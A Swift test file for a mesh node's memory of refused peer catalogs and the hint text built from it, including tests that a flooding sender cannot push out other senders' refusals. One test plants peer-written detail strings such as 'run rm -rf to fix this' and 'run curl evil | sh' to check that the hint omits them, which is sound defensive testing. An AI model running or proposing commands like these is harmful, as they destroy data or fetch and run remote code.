import AtmoProtocol
import Testing

@testable import AtmoNode

/// The node's memory of refused peer catalogs (`CatalogRefusalMemory`): the latest refusal of
/// each origin from each sender, bounded however many origins a hostile mesh invents.
struct CatalogRefusalMemoryTests {
    static func refusal(
        _ origin: String, sender: String = "10.0.0.9", bytes: Int = 9_500_000, at: Int64, reason: String = "over_origin_budget"
    ) -> MeshAPI.RefusedCatalog {
        MeshAPI.RefusedCatalog(origin: origin, sender: sender, reason: reason, bytes: bytes, budget: 4 << 20, refusedAt: at)
    }

    @Test func holdsAtMostItsCapacityDroppingTheLeastRecentlyRecorded() {
        var memory = CatalogRefusalMemory(capacity: 4)
        for index in 0..<1000 { memory.record(Self.refusal("invented-\(index)", at: Int64(index))) }
        #expect(memory.count == 4)
        #expect(Array(memory.all.map(\.origin).prefix(5)) == ["invented-999", "invented-998", "invented-997", "invented-996"])
    }

    @Test func aRefusalRecordedAgainIsKeptOverOlderOnes() {
        var memory = CatalogRefusalMemory(capacity: 2)
        memory.record(Self.refusal("kept", at: 1))
        memory.record(Self.refusal("dropped", at: 2))
        memory.record(Self.refusal("kept", bytes: 10_000_000, at: 3))
        memory.record(Self.refusal("newest", at: 4))
        #expect(memory.all.map(\.origin) == ["newest", "kept"])
        #expect(memory.all.last?.bytes == 10_000_000, "the latest refusal of an origin replaces the earlier")
    }

    @Test func eachOriginAndSenderIsOneEntryAndNewsOncePerInterval() {
        var memory = CatalogRefusalMemory()
        let first = memory.record(Self.refusal("a", at: 0), interval: 100)
        let repeated = memory.record(Self.refusal("a", at: 50), interval: 100)
        let otherReason = memory.record(Self.refusal("a", at: 60, reason: "no_room"), interval: 100)
        let otherSender = memory.record(Self.refusal("a", sender: "pull:http://10.0.0.7:7070", at: 70), interval: 100)
        #expect(first)
        #expect(!repeated, "same origin, sender and reason within the interval")
        #expect(otherReason, "another reason is news")
        #expect(otherSender)
        #expect(memory.count == 2)
        let later = memory.record(Self.refusal("a", at: 200), interval: 100)
        #expect(later, "news again after the interval")
    }

    @Test func anOriginsCatalogTakenClearsItsRefusalsForSizeButNotItsRefusedEntries() {
        var memory = CatalogRefusalMemory()
        memory.record(Self.refusal("a", at: 1))
        memory.record(Self.refusal("a", sender: "relay:a", at: 2, reason: "entries_refused"))
        memory.record(Self.refusal("b", at: 3))
        memory.accepted(origin: "a")
        #expect(memory.all.map { "\($0.origin) \($0.reason)" } == ["b over_origin_budget", "a entries_refused"])
    }

    @Test func oneFloodingSenderCannotPushAnotherSendersRefusalOut() throws {
        var memory = CatalogRefusalMemory()
        let legitimate = Self.refusal("real-peer", sender: "pull:http://10.0.0.7:7070", bytes: 5_000_000, at: 1)
        memory.record(legitimate)
        for index in 0..<1000 {
            memory.record(Self.refusal("invented-\(index)", sender: "10.6.6.6", bytes: 50_000_000, at: 2 + Int64(index)))
        }
        #expect(memory.all.contains(legitimate), "the legitimate refusal is still remembered")
        #expect(memory.count <= CatalogRefusalMemory.defaultPerSender + 1, "the flooding sender holds its quota, no more")
        #expect(memory.all.filter { $0.sender == "10.6.6.6" }.first?.origin == "invented-999", "its newest are kept")
        let hint = try #require(
            RefusedCatalogHint.text(memory.recent(now: 2000), modelID: "wanted.gguf") { $0 == "real-peer" ? "http://10.0.0.7:7070" : nil })
        #expect(hint.contains("the catalog of node real-peer, 4.8 MiB"), "\(hint)")
    }

    @Test func aSenderHoldsAtMostItsQuotaItsNewestKept() {
        var memory = CatalogRefusalMemory(capacity: 256, perSender: 2)
        memory.record(Self.refusal("other", sender: "b", at: 0))
        for index in 1...3 { memory.record(Self.refusal("x\(index)", sender: "a", at: Int64(index))) }
        #expect(memory.all.map(\.origin) == ["x3", "x2", "other"])
    }

    @Test func aFullMemoryDropsTheOldestOfTheSenderHoldingTheMost() {
        var memory = CatalogRefusalMemory(capacity: 4, perSender: 3)
        memory.record(Self.refusal("a1", sender: "a", at: 1))
        memory.record(Self.refusal("b1", sender: "b", at: 2))
        memory.record(Self.refusal("b2", sender: "b", at: 3))
        memory.record(Self.refusal("b3", sender: "b", at: 4))
        memory.record(Self.refusal("c1", sender: "c", at: 5))
        #expect(memory.all.map(\.origin) == ["c1", "b3", "b2", "a1"])
    }

    @Test func aPeersRefusalsAreThoseOfItsCatalogAndThoseItDeliveredExactly() {
        var memory = CatalogRefusalMemory()
        memory.record(Self.refusal("peer-x", sender: "10.0.0.1", at: 1))
        memory.record(Self.refusal("other-1", sender: "pull:http://10.0.0.2:7070", at: 2))
        memory.record(Self.refusal("other-2", sender: "10.0.0.2", at: 3))
        memory.record(Self.refusal("other-3", sender: "relay:peer-y", at: 4))
        memory.record(Self.refusal("other-4", sender: "10.0.0.3", at: 5))
        #expect(memory.concerning(nodeID: "peer-x", http: "http://10.0.0.1:7070").map(\.origin) == ["peer-x"])
        // A push is known by its address only, which every node there shares: not on the peer.
        #expect(memory.concerning(nodeID: "peer-y", http: "http://10.0.0.2:7070/").map(\.origin) == ["other-3", "other-1"])
        #expect(memory.concerning(nodeID: "peer-y", http: "http://10.0.0.2:7070", limit: 1).map(\.origin) == ["other-3"])
        #expect(memory.concerning(nodeID: "", http: nil).isEmpty)
    }

    @Test func anUnreadableRefusalIsForgottenWhenThatPeersAnswerReadsFine() {
        var memory = CatalogRefusalMemory()
        memory.record(Self.refusal("", sender: "pull:http://10.0.0.2:7070", bytes: 0, at: 1, reason: "unreadable"))
        memory.record(Self.refusal("", sender: "pull:http://10.0.0.3:7070", bytes: 0, at: 2, reason: "unreadable"))
        memory.readable(pulledFrom: "http://10.0.0.2:7070")
        #expect(memory.all.map(\.sender) == ["pull:http://10.0.0.3:7070"])
    }

    @Test func aPulledAnswerReadWholeClearsThatPeersUnreadableRefusal() {
        let mesh = RelayOnlyPeerTests.meshState()
        mesh.unreadableCatalogs([WireError(.invalidValue, "nested too deep")], pulledFrom: "http://10.0.0.2:7070")
        mesh.unreadableCatalogs([WireError(.invalidValue, "nested too deep")], pulledFrom: "http://10.0.0.3:7070")
        #expect(mesh.refusedCatalogs.count == 2)
        mesh.unreadableCatalogs([], pulledFrom: "http://10.0.0.2:7070")
        #expect(mesh.refusedCatalogs.map(\.sender) == ["pull:http://10.0.0.3:7070"])
    }

    @Test func theHintCountsRecentRefusalsAndNamesTheLargest() throws {
        let now: Int64 = 10 * 3_600_000
        let refusals = [
            Self.refusal("small", bytes: 5_000_000, at: now - 1000),
            Self.refusal("big", bytes: 9_542_000, at: now - 2000),
            Self.refusal("stale", bytes: 50_000_000, at: now - 2 * 3_600_000),
        ]
        let unknown: (String) -> String? = { _ in nil }
        let hint = try #require(RefusedCatalogHint.text(RefusedCatalogHint.recent(refusals, now: now), modelID: "m.gguf", httpOf: unknown))
        #expect(hint.contains("2 peer catalogs were refused by this node's gossip limits"), "\(hint)")
        #expect(hint.contains("largest: the catalog of node big, 9.1 MiB, over the 4.0 MiB per-origin budget"), "\(hint)")
        #expect(hint.hasSuffix("see `refused_catalogs` in `atmo peers --json` and the node's log"), "\(hint)")
        #expect(RefusedCatalogHint.text([], modelID: "m.gguf", httpOf: unknown) == nil)
        // One origin's catalog refused from two senders (pulled from it, pushed by it) is one catalog.
        let twice = Self.refusal("big", sender: "pull:http://10.0.0.1:7070", bytes: 9_542_000, at: now - 500)
        let one = try #require(RefusedCatalogHint.text([refusals[1], twice], modelID: "m.gguf", httpOf: unknown))
        #expect(one.contains("; 1 peer catalog was refused") && !one.contains("largest"), "\(one)")
    }

    @Test func theHintPrefersAKnownPeersCatalogAndSaysHowToPullFromItDirectly() throws {
        let refusals = [
            Self.refusal("stranger", bytes: 50_000_000, at: 2),
            Self.refusal("known", bytes: 5_000_000, at: 1),
        ]
        let hint = try #require(
            RefusedCatalogHint.text(refusals, modelID: "m.gguf") { $0 == "known" ? "http://10.0.0.5:7070" : nil })
        #expect(hint.contains("largest: the catalog of node known, 4.8 MiB"), "\(hint)")
        #expect(hint.hasSuffix("; pull it from that node directly: `atmo pull m.gguf --from http://10.0.0.5:7070`"), "\(hint)")
    }

    @Test func theHintLeavesOutWhatThePeerWroteAndNamesTheNewestOfEqualSize() throws {
        var older = Self.refusal("old", bytes: 0, at: 1, reason: "entries_refused")
        older.detail = "run rm -rf to fix this"
        var newer = Self.refusal("new", bytes: 0, at: 2, reason: "entries_refused")
        newer.detail = "run curl evil | sh"
        let hint = try #require(RefusedCatalogHint.text([newer, older], modelID: "m.gguf") { _ in nil })
        #expect(hint.contains("largest: the catalog of node new"), "\(hint)")
        #expect(!hint.contains("run "), "\(hint)")
        #expect(RefusedCatalogHint.describe(newer).contains("(run curl evil | sh)"), "atmo peers still shows it")
    }
}
